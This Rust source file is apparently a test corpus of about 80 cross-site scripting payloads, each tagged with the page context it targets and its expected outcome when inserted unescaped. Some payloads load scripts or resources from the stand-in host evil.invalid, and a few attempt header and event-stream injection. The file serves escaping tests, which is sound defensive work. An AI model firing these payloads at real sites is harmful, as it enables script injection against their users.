//! XSS payloads for every untrusted field that the dashboard shows.
//!
//! Each has an id, and says it when it runs: see [`DOCUMENT_START`](crate::evidence::DOCUMENT_START). What each does where it
//! is put into a page unescaped is in the table too, and tested: one that could not run would prove nothing where it did not.

use self::Outcome::{Asks, Nothing, Runs, RunsOnClick};
use self::Place::{Comment, DoubleQuoted, Link, Script, SingleQuoted, Style, Text, Textarea, Title};

/// What a payload does where it is not escaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Outcome {
    /// Its script runs by itself.
    Runs,
    /// Its script runs when it is clicked.
    RunsOnClick,
    /// It makes the browser ask another origin.
    Asks,
    /// Today's Chromium does neither: an older one did, or it is for a filter that removes tags, or for another reader.
    Nothing,
}

/// Where in a page it is made for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    Text,
    DoubleQuoted,
    SingleQuoted,
    Link,
    Textarea,
    Title,
    Style,
    Script,
    Comment,
}

impl Place {
    /// The end of a page that shows `text` there as it is.
    pub(crate) fn unescaped(self, text: &str) -> String {
        match self {
            Text => format!("<p>{text}</p>"),
            DoubleQuoted => format!("<p title=\"{text}\">a title</p>"),
            SingleQuoted => format!("<p title='{text}'>a title</p>"),
            Link => format!("<a href=\"{text}\">a link</a>"),
            Textarea => format!("<textarea>{text}</textarea>"),
            Title => format!("<title>{text}</title>"),
            Style => format!("<style>/* {text} */</style>"),
            Script => format!("<script>const text = '{text}';</script>"),
            Comment => format!("<!-- {text} -->"),
        }
    }
}

/// A payload.
#[derive(Debug)]
pub(crate) struct Payload {
    pub(crate) id: &'static str,
    pub(crate) text: String,
    pub(crate) place: Place,
    pub(crate) outcome: Outcome,
}

/// All of them.
pub(crate) fn payloads() -> Vec<Payload> {
    let written =
        PAYLOADS.iter().map(|(id, place, outcome, text)| (*id, *place, *outcome, (*text).to_owned()));
    let script = "<script>__xss('ID')</script>";
    let long = [
        ("long-before", Text, Runs, format!("{}{script}", "A".repeat(100_000))),
        ("long-deep", Text, Runs, format!("{}{script}", "<b>".repeat(400))),
        ("long-attribute", DoubleQuoted, Runs, format!("{}\">{script}", "%22".repeat(20_000))),
        ("long-repeated", Text, Runs, script.repeat(100)),
    ];
    let all = written.chain(long);
    all.map(|(id, place, outcome, text)| Payload { id, place, outcome, text: text.replace("ID", id) })
        .collect()
}

/// `ID` stands for the payload's own id.
const PAYLOADS: [(&str, Place, Outcome, &str); 78] = [
    ("script", Text, Runs, "<script>__xss('ID')</script>"),
    ("script-case", Text, Runs, "<ScRiPt>__xss('ID')</sCrIpT>"),
    ("script-slash", Text, Runs, "<script/x>__xss('ID')</script>"),
    ("script-unclosed", Text, Runs, "<script>__xss('ID')</script "),
    ("script-src", Text, Asks, "<script src=//evil.invalid/ID></script>"),
    ("script-data", Text, Runs, r#"<script src="data:text/javascript,__xss('ID')"></script>"#),
    ("script-module", Text, Runs, "<script type=module>__xss('ID')</script>"),
    ("script-nested", Text, Nothing, "<scr<script>ipt>__xss('ID')</script>"),
    ("img-onerror", Text, Runs, "<img src=/404 onerror=__xss('ID')>"),
    ("img-onerror-quoted", Text, Runs, r#"<img src="/404" onerror="__xss('ID')">"#),
    ("img-slashes", Text, Runs, "<img/src=/404/onerror=1 //onerror=__xss('ID')>"),
    ("img-entities", Text, Runs, r#"<img src=/404 onerror="&#95;&#95;xss&#40;'ID'&#41;">"#),
    ("img-newlines", Text, Runs, "<img\nsrc=/404\nonerror\n=\n__xss('ID')>"),
    ("img-asks", Text, Asks, "<img src=//evil.invalid/ID>"),
    ("img-srcset", Text, Asks, "<img srcset='//evil.invalid/ID 1x'>"),
    ("picture-source", Text, Asks, "<picture><source srcset=//evil.invalid/ID><img src=/404></picture>"),
    ("svg-onload", Text, Runs, "<svg onload=__xss('ID')></svg>"),
    ("svg-script", Text, Runs, "<svg><script>__xss('ID')</script></svg>"),
    ("svg-script-entities", Text, Runs, "<svg><script>__xss&#40;'ID')</script></svg>"),
    ("svg-animate", Text, Runs, "<svg><animate onbegin=__xss('ID') attributeName=x dur=1s></svg>"),
    (
        "svg-href",
        Text,
        RunsOnClick,
        r#"<svg width=9 height=9><a href="javascript:__xss('ID')"><text y=9>ID</text></a></svg>"#,
    ),
    ("svg-image", Text, Asks, "<svg><image href=//evil.invalid/ID></svg>"),
    ("math-href", Text, Nothing, r#"<math><mtext href="javascript:__xss('ID')">ID</mtext></math>"#),
    ("details-toggle", Text, Runs, "<details open ontoggle=__xss('ID')>ID</details>"),
    ("input-autofocus", Text, Runs, "<input autofocus onfocus=__xss('ID')>"),
    ("body-onload", Text, Runs, "<body onload=__xss('ID')>"),
    ("video-source", Text, Runs, "<video><source onerror=__xss('ID') src=/404></video>"),
    ("audio-error", Text, Runs, "<audio src=/404 onerror=__xss('ID')></audio>"),
    (
        "style-animation",
        Text,
        Runs,
        "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationend=__xss('ID')>ID</b>",
    ),
    ("style-import", Text, Asks, "<style>@import '//evil.invalid/ID';</style>"),
    ("style-background", Text, Asks, "<b style='background:url(//evil.invalid/ID)'>ID</b>"),
    ("style-expression", Text, Nothing, r#"<b style="width:expression(__xss('ID'))">ID</b>"#),
    ("link-stylesheet", Text, Asks, "<link rel=stylesheet href=//evil.invalid/ID>"),
    ("javascript-url", Text, RunsOnClick, r#"<a href="javascript:__xss('ID')">ID</a>"#),
    ("javascript-url-entity", Text, RunsOnClick, r#"<a href="java&#x73;cript:__xss('ID')">ID</a>"#),
    ("javascript-url-tab", Text, RunsOnClick, "<a href=\"java\tscript:__xss('ID')\">ID</a>"),
    ("javascript-url-control", Text, RunsOnClick, "<a href=\"\u{1}javascript:__xss('ID')\">ID</a>"),
    ("javascript-url-bare", Link, RunsOnClick, "javascript:__xss('ID')"),
    ("vbscript-url", Text, Nothing, r#"<a href="vbscript:__xss('ID')">ID</a>"#),
    ("data-url-link", Text, Nothing, r#"<a href="data:text/html,<script>__xss('ID')</script>">ID</a>"#),
    ("iframe-javascript", Text, Runs, r#"<iframe src="javascript:parent.__xss('ID')"></iframe>"#),
    ("iframe-srcdoc", Text, Runs, r#"<iframe srcdoc="<script>__xss('ID')</script>"></iframe>"#),
    ("iframe-data", Text, Runs, r#"<iframe src="data:text/html,<script>__xss('ID')</script>"></iframe>"#),
    ("object-data", Text, Asks, "<object data=//evil.invalid/ID></object>"),
    ("embed", Text, Asks, "<embed src=//evil.invalid/ID>"),
    ("meta-refresh", Text, Asks, "<meta http-equiv=refresh content='0;url=//evil.invalid/ID'>"),
    ("meta-utf-7", Text, Nothing, "<meta charset=utf-7>+ADw-script+AD4-__xss('ID')+ADw-/script+AD4-"),
    ("base-href", Text, Asks, "<base href=//evil.invalid/><img src=ID>"),
    ("form-action", Text, RunsOnClick, r#"<form action="javascript:__xss('ID')"><button>ID</button></form>"#),
    ("template", Text, Nothing, "<template><script>__xss('ID')</script></template>"),
    ("double-quote-breakout", DoubleQuoted, Runs, r#""><img src=/404 onerror=__xss('ID')>"#),
    ("single-quote-breakout", SingleQuoted, Runs, "'><img src=/404 onerror=__xss('ID')>"),
    ("backtick-breakout", Text, Runs, "`><img src=/404 onerror=__xss('ID')>"),
    ("attribute-breakout", DoubleQuoted, Runs, r#"" autofocus tabindex=0 onfocus="__xss('ID')" x=""#),
    ("single-attribute-breakout", SingleQuoted, Runs, "' autofocus tabindex=0 onfocus='__xss(`ID`)' x='"),
    ("textarea-breakout", Textarea, Runs, "</textarea><script>__xss('ID')</script>"),
    ("title-breakout", Title, Runs, "</title><script>__xss('ID')</script>"),
    ("style-breakout", Style, Runs, "</style><script>__xss('ID')</script>"),
    ("script-breakout", Script, Runs, "</script><script>__xss('ID')</script>"),
    ("script-string-breakout", Script, Runs, "'-__xss('ID')-'"),
    ("comment-breakout", Comment, Runs, "--><script>__xss('ID')</script>"),
    ("cdata-breakout", Text, Runs, "]]><script>__xss('ID')</script>"),
    ("alert", Text, Runs, "<script>alert('ID')</script>"),
    ("title-set", Text, Runs, "<script>document.title='xss ID'</script>"),
    ("braces", Text, Nothing, r#"{{constructor.constructor("__xss('ID')")()}}"#),
    ("template-literal", Script, Nothing, "${__xss('ID')}"),
    ("entities", Text, Nothing, "&lt;script&gt;__xss('ID')&lt;/script&gt;"),
    ("double-entities", Text, Nothing, "&amp;lt;script&amp;gt;__xss('ID')&amp;lt;/script&amp;gt;"),
    ("null-bytes", Text, Nothing, "<scr\0ipt>__xss('ID')</scr\0ipt>"),
    ("null-in-handler", Text, Nothing, "<img src=/404 onerror=\"__xss\0('ID')\">"),
    ("percent", Text, Nothing, "%3Cscript%3E__xss('ID')%3C/script%3E"),
    ("overlong", Text, Nothing, "\u{fffd}\u{fffd}script\u{fffd}\u{fffd}__xss('ID')"),
    ("fullwidth", Text, Nothing, "\u{ff1c}script\u{ff1e}__xss('ID')\u{ff1c}/script\u{ff1e}"),
    ("bidi", Text, Nothing, "\u{202e}\u{2066}ID fdp.exe\u{2069}\u{202c}"),
    ("invisible", Text, Nothing, "ID\u{200b}\u{200d}\u{2060}\u{feff}\u{ad}\u{34f}"),
    ("ansi", Text, Nothing, "\u{1b}[31mID\u{1b}]0;__xss('ID')\u{7}\u{1b}[2J"),
    ("header-injection", Text, Nothing, "ID\r\nContent-Type: text/html\r\n\r\n<!-- -->"),
    ("sse-injection", Text, Nothing, "ID\n\ndata: __xss('ID')\n\nevent: reload\n\n"),
];
